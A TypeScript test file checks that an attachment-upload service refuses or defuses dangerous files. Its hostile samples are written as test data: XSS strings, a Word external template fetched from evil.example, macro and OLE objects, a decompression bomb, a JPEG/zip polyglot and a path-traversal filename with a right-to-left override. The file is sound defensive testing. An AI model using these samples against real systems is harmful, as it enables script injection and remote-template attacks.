import { readdir, readFile, utimes, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import sharp from 'sharp'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Actor } from '#kernel/actor.ts'
import { Refusal } from '#kernel/refusal.ts'
import { given } from '#modules/identity/identity.given.ts'
import { eventsOf, sealRecord, verifyRecord } from '#modules/record/index.ts'
import { isOneOf } from '#platform/db/condition.ts'
import { runSql } from '#tests/support/statements.ts'
import { type TestSite, testApp } from '#tests/support/test-app.ts'
import { added, docxOf, pdfOf, photoOf, pngHeadOf, upload, zipOf } from './attachment.given.ts'
import { attachmentLimits } from './attachment.ts'
import { registerCaseFiles, sweepAttachments, sweepOrphans } from './index.ts'

// A kind of case with the plainest of rules: one owner, one reader, and a day on which its act is done.
const cases = new Map<string, { owner: string; reader: string; isDone: boolean }>()
const isHers = (actor: Actor, name: string | undefined) => actor.personId === name
registerCaseFiles('test_case', {
  isNear: () => isOneOf('attachment.case_id', [...cases.keys()]),
  maySee: async (_db, actor, { case_id }) => {
    const of = cases.get(case_id)
    return isHers(actor, of?.owner) || isHers(actor, of?.reader)
  },
  mayAdd: async (_trx, actor, { caseId }) => {
    const of = cases.get(caseId)
    if (!isHers(actor, of?.owner) && !isHers(actor, of?.reader)) throw new Refusal('not_found', 'suggestion.not_found')
    if (!isHers(actor, of?.owner)) throw new Refusal('forbidden', 'suggestion.not_yours_to_do')
  },
  isActDone: async (_trx, { case_id }) => cases.get(case_id)?.isDone ?? true,
})

type Person = Awaited<ReturnType<typeof given.deputy>>
let site: TestSite
let owner: Person
let reader: Person
let stranger: Person
beforeAll(async () => {
  site = await testApp()
  const congress = await given.congress(site.app)
  owner = await given.deputy(site.app, { congress, name: '沈秋萍' })
  reader = await given.deputy(site.app, { congress })
  stranger = await given.deputy(site.app, { congress })
})

function newCase(): { caseKind: string; caseId: string } {
  const caseId = site.app.ids.uuid()
  cases.set(caseId, { owner: owner.personId, reader: reader.personId, isDone: false })
  return { caseKind: 'test_case', caseId }
}
const asOwner = () => site.as(owner)
const says = async (response: Response) => `${response.status} ${((await response.json()) as { code: string }).code}`
const rowsOf = (caseId: string) => runSql(site.db, 'select * from attachment where case_id = $1', [caseId])

describe('adding', () => {
  test('a photograph comes back upright, without its place and maker, with a small picture of it', async () => {
    const given = await photoOf()
    expect((await sharp(given).metadata()).exif?.includes('Minsheng Camera')).toBe(true)
    const view = await added(await upload(asOwner(), newCase(), 'IMG_2031.HEIC', given))
    expect(view).toMatchObject({
      name: 'IMG_2031.jpg',
      kind: 'picture',
      hasPreview: true,
      by: '沈秋萍',
      takeBack: 'remove',
    })
    const reply = await asOwner().get(`/api/attachments/${view.id}/content`)
    const bytes = Buffer.from(await reply.arrayBuffer())
    const { exif, orientation, width, height } = await sharp(bytes).metadata()
    expect([exif, orientation, width, height]).toEqual([undefined, undefined, 300, 400])
    expect(bytes.includes('GPS') || bytes.includes('Minsheng Camera')).toBe(false)
    const small = await asOwner().get(`/api/attachments/${view.id}/preview`)
    expect((await sharp(Buffer.from(await small.arrayBuffer())).metadata()).format).toBe('jpeg')
  })

  test('what is served can run nothing and is kept by no cache', async () => {
    const target = newCase()
    const picture = await added(await upload(asOwner(), target, '路灯.jpg', await photoOf()))
    const paper = await added(await upload(asOwner(), target, '说明.pdf', pdfOf()))
    const headersOf = async (id: string) => (await asOwner().get(`/api/attachments/${id}/content`)).headers
    const [ofPicture, ofPaper] = [await headersOf(picture.id), await headersOf(paper.id)]
    expect(ofPicture.get('content-disposition')).toMatch(/^inline; /)
    expect(ofPaper.get('content-disposition')).toBe(
      'attachment; filename="__.pdf"; filename*=UTF-8\'\'%E8%AF%B4%E6%98%8E.pdf',
    )
    for (const headers of [ofPicture, ofPaper]) {
      expect(headers.get('content-security-policy')).toContain('sandbox')
      expect(headers.get('x-content-type-options')).toBe('nosniff')
      expect(headers.get('cache-control')).toBe('private, no-store')
    }
  })

  test('sent twice, as after a lost answer, it is one file and one event', async () => {
    const target = { ...newCase(), id: site.app.ids.uuid() }
    const first = await added(await upload(asOwner(), target, '说明.pdf', pdfOf()))
    const again = await added(await upload(asOwner(), target, '说明.pdf', pdfOf()))
    expect(again).toEqual(first)
    const events = await eventsOf(site.db, target.caseId)
    expect(events.map(({ type }) => type)).toEqual(['attachment.added'])
    expect(await says(await upload(asOwner(), { ...newCase(), id: target.id }, 'a.pdf', pdfOf()))).toBe(
      '409 attachment.id_taken',
    )
    // who may not add to a case learns from it of no file of another
    for (const id of [target.id, site.app.ids.uuid()]) {
      const reply = await upload(site.as(reader), { ...newCase(), id }, 'a.pdf', pdfOf())
      expect(await says(reply)).toBe('403 suggestion.not_yours_to_do')
    }
  })

  const bomb = () => docxOf({ name: 'word/media/big.bin', content: Buffer.alloc(250 * 1024 * 1024) })
  const twentyOne = () => new Uint8Array(21 * 1024 * 1024)
  const macro = { name: 'word/vbaProject.bin', content: Buffer.from('x') }
  const object = { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') }
  const settings =
    '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
  const template = { name: 'word/_rels/settings.xml.rels', content: Buffer.from(settings) }
  const text = (words: string) => new Uint8Array(Buffer.from(words))
  const refused: [string, string, () => Uint8Array<ArrayBuffer> | Promise<Uint8Array<ArrayBuffer>>, string][] = [
    ['an empty file', 'a.pdf', () => new Uint8Array(0), 'empty'],
    ['a file of 21 MB', 'a.pdf', twentyOne, 'too_large'],
    ['a page that calls itself a picture', 'a.jpg', () => text('<html><script>alert(1)</script>'), 'wrong_kind'],
    ['a drawing with scripts in it', 'a.svg', () => text('<svg onload="alert(1)"/>'), 'wrong_kind'],
    ['a program that calls itself a PDF', 'a.pdf', () => text('MZ\u0090'), 'wrong_kind'],
    ['a picture of 30000 × 30000', 'a.png', () => pngHeadOf(30_000, 30_000), 'too_many_pixels'],
    ['half a photograph', 'a.jpg', async () => (await photoOf(800, 800)).slice(0, 900), 'broken_picture'],
    ['only the first bytes of a picture', 'a.png', () => pngHeadOf(10, 10).slice(0, 20), 'broken_picture'],
    ['a HEIC', 'a.heic', () => text('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1'), 'heic'],
    ['a Word file with macros', 'a.docx', () => docxOf(macro), 'active_content'],
    ['a Word file with a program in it', 'a.docx', () => docxOf(object), 'active_content'],
    ['a Word file that fetches its template from elsewhere', 'a.docx', () => docxOf(template), 'active_content'],
    ['a zip that is no document', 'a.docx', () => zipOf([{ name: 'a.exe', content: text('x') }]), 'wrong_kind'],
    ['a Word file that unpacks to 250 MB', 'a.docx', bomb, 'unpacks_too_large'],
    ['a Word file of 1997', 'a.doc', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'old_office'],
    ['a PDF with a script', 'a.pdf', () => pdfOf('/S /JavaScript'), 'active_content'],
    ['half a PDF', 'a.pdf', () => pdfOf().slice(0, 20), 'broken_pdf'],
  ]
  test.each(refused)('%s is refused in a sentence and leaves nothing behind', async (_what, name, make, code) => {
    const target = newCase()
    const reply = await upload(asOwner(), target, name, await make())
    const { detail, code: said } = (await reply.json()) as { detail: string; code: string }
    expect([reply.status, said]).toEqual([422, `attachment.${code}`])
    expect(detail).toMatch(/\p{Script=Han}/u)
    expect(await rowsOf(target.caseId)).toEqual([])
  })

  test('what a picture hides behind its last pixel is not stored', async () => {
    const hidden = zipOf([{ name: 'evil.html', content: Buffer.from('<script>') }])
    const polyglot = new Uint8Array(Buffer.concat([await photoOf(), hidden]))
    const view = await added(await upload(asOwner(), newCase(), 'a.jpg', polyglot))
    const bytes = Buffer.from(await (await asOwner().get(`/api/attachments/${view.id}/content`)).arrayBuffer())
    expect(bytes.includes('evil.html')).toBe(false)
  })

  test('a scan of a signed sheet is not taken as Word', async () => {
    const target = { ...newCase(), place: 'cosign_sheet' as const }
    expect(await says(await upload(asOwner(), target, 'a.docx', docxOf()))).toBe('422 attachment.not_here')
  })

  test('the content decides over the name and the stated type', async () => {
    const view = await added(
      await upload(asOwner(), { ...newCase(), type: 'text/html' }, '../../\u202efdp.exe', pdfOf()),
    )
    expect(view).toMatchObject({ name: 'fdp.pdf', kind: 'pdf' })
    const { headers } = await asOwner().get(`/api/attachments/${view.id}/content`)
    expect(headers.get('content-type')).toBe('application/pdf')
  })

  test('of uploads that come at once, no more are taken than the limit has room for', async () => {
    const target = newCase()
    for (let n = 2; n <= attachmentLimits.perCaseMax; n += 1) {
      await added(await upload(asOwner(), target, `${n}.pdf`, pdfOf()))
    }
    const replies = await Promise.all([1, 2, 3].map((n) => upload(asOwner(), target, `多${n}.pdf`, pdfOf())))
    expect(replies.map(({ status }) => status).toSorted()).toEqual([201, 409, 409])
    expect(await rowsOf(target.caseId)).toHaveLength(attachmentLimits.perCaseMax)
  })
})

describe('who may', () => {
  test('who sees the case reads its files and takes none of them back; to a stranger there are none', async () => {
    const target = newCase()
    const { id } = await added(await upload(asOwner(), target, '说明.pdf', pdfOf()))
    const [see, not] = [site.as(reader), site.as(stranger)]
    expect((await see.get(`/api/attachments/${id}/content`)).status).toBe(200)
    expect(await says(await see.delete(`/api/attachments/${id}`))).toBe('403 attachment.not_yours')
    expect(await says(await upload(see, target, 'a.pdf', pdfOf()))).toBe('403 suggestion.not_yours_to_do')
    const nothing = site.app.ids.uuid()
    for (const path of ['content', 'preview']) {
      const [hidden, absent] = [
        await not.get(`/api/attachments/${id}/${path}`),
        await not.get(`/api/attachments/${nothing}/${path}`),
      ]
      const bodyOf = async (reply: Response) => ({ ...((await reply.json()) as object), requestId: '' })
      expect(await bodyOf(hidden)).toEqual(await bodyOf(absent))
    }
    expect((await not.delete(`/api/attachments/${id}`)).status).toBe(404)
    expect((await not.post(`/api/attachments/${id}/withdrawal`, { reason: '误传' })).status).toBe(404)
    expect((await upload(not, target, 'a.pdf', pdfOf())).status).toBe(404)
    expect((await site.anonymous.get(`/api/attachments/${id}/content`)).status).toBe(401)
    expect((await upload(asOwner(), { ...target, caseKind: 'no_such_kind' }, 'a.pdf', pdfOf())).status).toBe(404)
  })
})

describe('taking back', () => {
  test('before its act is done a file is removed with its bytes; the record keeps that it was there', async () => {
    const target = newCase()
    const { id } = await added(await upload(asOwner(), target, '误传.jpg', await photoOf()))
    const [row] = await rowsOf(target.caseId)
    expect((await asOwner().delete(`/api/attachments/${id}`)).status).toBe(204)
    expect((await asOwner().get(`/api/attachments/${id}/content`)).status).toBe(404)
    for (const key of [row?.file_key, row?.preview_key]) await expect(site.app.files.get(String(key))).rejects.toThrow()
    const types = (await eventsOf(site.db, target.caseId)).map(({ type }) => type)
    expect(types).toEqual(['attachment.added', 'attachment.removed'])
  })

  test('afterwards it can only be withdrawn, with a reason, and stays listed and proved', async () => {
    const target = newCase()
    const { id } = await added(await upload(asOwner(), target, '附图.jpg', await photoOf()))
    cases.set(target.caseId, { owner: owner.personId, reader: reader.personId, isDone: true })
    expect(await says(await asOwner().delete(`/api/attachments/${id}`))).toBe('409 attachment.act_done')
    expect((await asOwner().post(`/api/attachments/${id}/withdrawal`, { reason: ' ' })).status).toBe(422)
    const withdrawn = await asOwner().post(`/api/attachments/${id}/withdrawal`, { reason: '拍到了路人的脸。' })
    expect(await withdrawn.json()).toMatchObject({ state: 'withdrawn', hasPreview: false })
    expect(await says(await site.as(reader).get(`/api/attachments/${id}/content`))).toBe('410 attachment.withdrawn')
    expect(await says(await asOwner().post(`/api/attachments/${id}/withdrawal`, { reason: '再来' }))).toBe(
      '409 attachment.withdrawn_already',
    )
    const [, event] = await eventsOf(site.db, target.caseId, () => true)
    expect(event).toMatchObject({ type: 'attachment.withdrawn', note: '拍到了路人的脸。' })
    // no word of a name in what can never be erased
    expect(JSON.stringify(event?.data)).not.toContain('附图')
  })
})

describe('what lies in the store', () => {
  const folder = () => site.app.env.MINSHENG_DATA
  const pathOf = (key: unknown) => join(folder(), String(key))

  test('one changed byte, a removed file and a changed row are each named by verify-record', async () => {
    const target = newCase()
    const uploads = ['一.pdf', '二.pdf', '三.pdf'].map((name) => upload(asOwner(), target, name, pdfOf()))
    const [changed, gone, renamed] = await Promise.all(uploads.map(async (one) => added(await one)))
    await sealRecord(site.app)
    expect(await verifyRecord(site.app)).toMatchObject({ faults: [], files: expect.toSatisfy((n: number) => n > 3) })
    const rows = await rowsOf(target.caseId)
    const keyOf = (id: string | undefined) => String(rows.find((row) => row.id === id)?.file_key)
    const bytes = await readFile(pathOf(keyOf(changed?.id)))
    bytes[12] = (bytes[12] ?? 0) ^ 1
    await writeFile(pathOf(keyOf(changed?.id)), bytes)
    await site.app.files.remove(keyOf(gone?.id))
    await runSql(site.db, `update attachment set name = '四.pdf' where id = $1`, [renamed?.id])
    const { faults } = await verifyRecord(site.app)
    expect(faults.toSorted((a, b) => a.code.localeCompare(b.code))).toMatchObject([
      { code: 'file_changed', kind: 'attachment', subjectId: changed?.id },
      { code: 'file_removed', kind: 'attachment', subjectId: gone?.id },
      { code: 'row_changed', kind: 'attachment', subjectId: renamed?.id },
    ])
  })

  test('bytes that no row names are swept after a day, half-written ones too; what is named stays', async () => {
    const target = newCase()
    const { id } = await added(await upload(asOwner(), target, '留下.pdf', pdfOf()))
    const [row] = await rowsOf(target.caseId)
    await site.app.files.put('attachment/zz/orphan', pdfOf())
    await writeFile(pathOf('attachment/zz/half.part'), 'x')
    await site.app.files.put('attachment/zz/new', pdfOf())
    const now = site.app.wall.now()
    const daysAgo = (days: number) => new Date(now.getTime() - days * 86_400_000)
    for (const key of ['attachment/zz/orphan', 'attachment/zz/half.part', row?.file_key]) {
      await utimes(pathOf(key), daysAgo(2), daysAgo(2))
    }
    await utimes(pathOf('attachment/zz/new'), now, now)
    expect(await sweepOrphans(site.app)).toBe(2)
    expect(await readdir(pathOf('attachment/zz'))).toEqual(['new'])
    expect((await asOwner().get(`/api/attachments/${id}/content`)).status).toBe(200)
  })

  test('a check that never ended gives back its place and was never to be seen', async () => {
    const target = newCase()
    const { id } = await added(await upload(asOwner(), target, '一.pdf', pdfOf()))
    await runSql(site.db, `update attachment set status = 'quarantined', sha256 = null where id = $1`, [id])
    expect((await asOwner().get(`/api/attachments/${id}/content`)).status).toBe(404)
    expect(await says(await upload(asOwner(), { ...target, id }, '一.pdf', pdfOf()))).toBe(
      '409 attachment.being_checked',
    )
    site.clock.advance((attachmentLimits.checkMinutesMax + 1) * 60_000)
    await sweepAttachments(site.app)
    expect(await rowsOf(target.caseId)).toEqual([])
  })
})
